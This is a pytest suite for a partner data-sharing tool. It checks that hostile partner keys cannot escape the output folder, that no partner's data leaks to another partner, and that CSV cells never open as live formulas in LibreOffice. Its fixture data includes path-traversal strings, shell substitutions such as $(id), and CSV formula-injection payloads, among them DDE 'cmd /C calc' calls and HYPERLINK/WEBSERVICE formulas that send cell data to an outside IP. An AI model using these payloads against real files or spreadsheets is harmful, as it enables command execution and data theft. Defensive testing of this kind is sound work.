"""Partners and accounts that are called what would do harm: a path out of the folder, a formula, a tag."""

import csv
import json
import random
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import pytest
from small_sharing import SmallSharing

from orchestration.folder_names import DEVICES, folder_names
from orchestration.share.cells import cell

PARTNERS = 300
FIELDS = {
    "company_name": "dim_accounts.name",
    "domain": "dim_accounts.domain",
    "deal_stage": "fct_opportunities.stage",
    "deal_amount": "fct_opportunities.amount",
    "account_owner": "dim_users.name",
    "partner_owner": "dim_partners.partner_manager_user_id",
}
PATHS = [
    *("..", ".", "", " ", "/", "//", "../x", "../../x", "/etc/passwd", "a/../../b", "..\\..\\x", "C:\\x", "\\\\host\\x", "a/b", "a%2Fb"),
    *("%2e%2e%2f", "..%2f", "~", "~root", ".hidden", "...", "x.", "x ", " x", "-rf", "--", "*", "?", "a:b", "x|y", "$(id)", "`id`", "a;b"),
    *("con", "CON", "nul.txt", "Com1", "LPT9.csv", "aux.", "acme", "Acme", "ACME", "x" * 300, "x" * 301, "ü" * 200, "\u202eexe.slx"),
    *("a\nb", "a\r\nb", "a\tb", "a\x00b", "\x00", "\x1b[2J", "🜚", "名前", "'; drop table x; --", '"quoted"', "<script>x</script>", "&amp;"),
]
STARTS = ["", " ", "\t", "\n", "a;", "a,", "a\t", "a|", "a\n", '"', 'a;"', "a, '", "\u00a0", "\ufeff"]
SIGNS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "==", "=-", "-+", "+="]
FORMULAS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://192.0.2.1")',
    "A1",
    "2+5+cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
]
SEPARATORS = {"comma": "44", "semicolon": "59", "all": "44/59/9/124"}
"""As LibreOffice takes them: where a country writes 1,5 its spreadsheets part cells at semicolons."""


def files_below(folder: Path) -> set[str]:
    """Every file and folder below a folder, from there."""
    return {path.relative_to(folder).as_posix() for path in folder.rglob("*")}


def hostile_texts(number: int) -> list[str]:
    """So many different texts, each a formula to some spreadsheet or other."""
    rng = random.Random(8)
    texts: dict[str, None] = {}
    while len(texts) < number:
        texts[rng.choice(STARTS) + rng.choice(SIGNS) + rng.choice(FORMULAS) + rng.choice(["", " & Co", f" {len(texts)}"])] = None
    return list(texts)


def hostile_keys(number: int) -> list[str]:
    rng = random.Random(9)
    keys = dict.fromkeys(PATHS)
    while len(keys) < number:
        keys["".join(rng.choice(PATHS)[:40] for _ in range(rng.randint(2, 3)))] = None
    return list(keys)[:number]


@pytest.fixture(scope="module")
def made(tmp_path_factory) -> tuple[Path, dict[str, str]]:
    """shares/ of partners with hostile keys and names, each of whom sees an account with a mark of its own; and the marks by key."""
    top = tmp_path_factory.mktemp("hostile")
    small = SmallSharing(top / "generation", FIELDS)
    rules = {("customer", field): "overlap" for field in FIELDS}
    marks = {}
    texts = hostile_texts(4 * PARTNERS)
    for number, key in enumerate(hostile_keys(PARTNERS)):
        name, account, owner, stage = texts[4 * number : 4 * number + 4]
        marks[key] = f"Zqmark{number:03}x"
        small.partner(key, name, rules, partner_id=f"P{number}", manager=owner)
        account_id = small.account(number, account, stage, domain=f"{marks[key]}.example", amount=f"-{number}.50", owner=owner)
        small.shows(key, account_id, ",".join(FIELDS), texts[-number - 1])
        small.count(key, stage, None, "withheld")
        small.compared(key, "company_name", 1, 1, 1, "both")
    before = files_below(top)
    small.shares()
    before |= {"generation/partnerverse.duckdb", "generation/manifest.json"}
    made_outside = {path for path in files_below(top) - before if not path.startswith(("generation/shares", "generation/reciprocity"))}
    assert made_outside == set()
    return top / "generation" / "shares", marks


def test_every_hostile_key_has_a_folder_of_its_own_and_nothing_lies_outside(made):
    shares, marks = made
    folders = [path for path in shares.iterdir()]
    assert len(folders) == PARTNERS
    assert len({folder.name.casefold() for folder in folders}) == PARTNERS
    assert all(path.resolve().is_relative_to(shares.resolve()) and not path.is_symlink() for path in shares.rglob("*"))
    assert {json.loads((folder / "manifest.json").read_text())["partner_key"] for folder in folders} == set(marks)
    for folder in folders:
        assert len(folder.name.encode()) <= 255
        assert not set(folder.name) & set('<>:"/\\|?*')
        assert folder.name[-1] not in ". "
        assert folder.name.split(".")[0].casefold() not in DEVICES


def test_folders_and_files_are_their_owners_alone(made):
    shares, _ = made
    assert {path.stat().st_mode & 0o777 for path in [shares, *shares.rglob("*")] if path.is_dir()} == {0o700}
    assert {path.stat().st_mode & 0o777 for path in shares.rglob("*") if path.is_file()} == {0o600}


def test_nothing_of_one_partner_is_in_the_folder_of_another(made):
    shares, marks = made
    names = folder_names(list(marks))
    for key, mark in marks.items():
        others = {other.encode() for other in marks.values()} - {mark.encode()}
        found = b""
        for path in (shares / names[key]).iterdir():
            found += path.read_bytes()
            if path.suffix == ".parquet":
                found += repr(duckdb.sql(f"from '{path}'").fetchall()).encode()
        assert mark.encode() in found
        assert not [other for other in others if other in found]


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_is_a_formula_to_a_spreadsheet_of_any_country(made, tmp_path, separator):
    shares, marks = made
    sources = {}
    for number, folder in enumerate(sorted(shares.iterdir())):
        for name in ("overlap", "counts") if separator == "comma" else ("overlap",):
            source = tmp_path / "in" / f"{name}{number}.csv"
            source.parent.mkdir(exist_ok=True)
            shutil.copy(folder / f"{name}.csv", source)
            sources[source.stem] = source
    converted = opened_in_libreoffice(tmp_path, list(sources.values()), SEPARATORS[separator])
    assert len(converted) == len(sources) >= len(marks)
    numbers = 0
    for stem, cells in converted.items():
        assert [text for text, _, formula in cells if formula] == []
        if separator == "comma":
            with sources[stem].open(encoding="utf-8", newline="") as file:
                written = [" ".join(text.split()) for row in csv.reader(file) for text in row if text.split()]
            read = [" ".join(text.split()) for text, _, _ in cells]
            # LibreOffice shows -12.50 as -12.5, the number that it is
            assert [*map(number_or_text, read)] == [*map(number_or_text, written)]
            numbers += sum(kind == "float" and text.startswith("-") for text, kind, _ in cells)
    # deal_amount of every partner but the first, whose is -0.50 all the same
    assert numbers == (PARTNERS if separator == "comma" else 0)


def test_a_formula_that_is_not_neutralised_is_found(tmp_path):
    """So that the test above can fail."""
    bad = tmp_path / "bad.csv"
    bad.write_text('a,b\nx,"y;=1+1"\n=1+1,\n', encoding="utf-8")
    for separator, expected in (("44", 1), ("59", 2)):
        (cells,) = opened_in_libreoffice(tmp_path, [bad], separator).values()
        assert sum(bool(formula) for _, _, formula in cells) == expected


def opened_in_libreoffice(folder: Path, files: list[Path], separators: str) -> dict[str, list[tuple[str, str, str]]]:
    """File -> its cells that are not empty as LibreOffice reads them: text, kind of value, formula."""
    if shutil.which("soffice") is None:
        pytest.fail("This test needs a spreadsheet: install Debian's package libreoffice-calc (apt-get install libreoffice-calc).")
    out = folder / "out"
    shutil.rmtree(out, ignore_errors=True)
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{folder / 'profile'}", f"--infilter=CSV:{separators},34,76,1"]
    # of more files than these in one call it leaves some out
    for start in range(0, len(files), 100):
        part = files[start : start + 100]
        subprocess.run([*command, "--convert-to", "fods", "--outdir", out, *part], check=True, capture_output=True, timeout=300)
    return {path.stem: list(_cells(path)) for path in out.iterdir()}


def _cells(path: Path) -> Iterator[tuple[str, str, str]]:
    office, table, text = (f"{{urn:oasis:names:tc:opendocument:xmlns:{name}:1.0}}" for name in ("office", "table", "text"))
    body = ElementTree.parse(path).getroot().find(f"{office}body")
    for cell_element in body.iter(f"{table}table-cell"):
        kind = cell_element.get(f"{office}value-type")
        if kind is not None:
            told = "".join("".join(paragraph.itertext()) for paragraph in cell_element.iter(f"{text}p"))
            yield from [(told, kind, cell_element.get(f"{table}formula", ""))] * int(cell_element.get(f"{table}number-columns-repeated", 1))


def number_or_text(text: str) -> float | str:
    try:
        return float(text)
    except ValueError:
        return text


def test_a_negative_number_stays_a_number():
    assert [cell(value) for value in (None, -12.5, "-12.50", "-1+2", "+1", "- 1")] == ["", "-12.5", "-12.50", "'-1+2", "'+1", "'- 1"]
